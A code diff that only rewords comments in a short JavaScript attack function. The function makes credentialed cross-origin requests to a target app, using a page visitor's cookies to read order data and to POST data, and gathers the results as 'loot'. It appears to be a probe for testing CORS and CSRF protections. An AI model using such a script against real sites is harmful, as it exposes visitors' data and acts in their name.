@@ -1,4 +1,4 @@
-// Asks `app` with the cookie of whoever looks at this page.
+// Sends requests to `app` with the cookies of this page's visitor.
 async function attack(app) {
   const loot = { orders: null, placed: null };
   const credentials = "include";
@@ -6,7 +6,7 @@ async function attack(app) {
     const answer = await fetch(`${app}/api1/data`, { credentials });
     if (answer.ok) loot.orders = await answer.text();
   } catch {
-    // The browser keeps the answer to itself.
+    // The browser withholds the response.
   }
   try {
     const headers = { "Content-Type": "application/json", "X-CSRF": "1" };
@@ -14,7 +14,7 @@ async function attack(app) {
     const placed = await fetch(`${app}/api1/data`, { method: "POST", credentials, headers, body });
     loot.placed = placed.status;
   } catch {
-    // Nobody answered the preflight, so nothing was sent.
+    // The preflight failed, so nothing was sent.
   }
   return loot;
 }
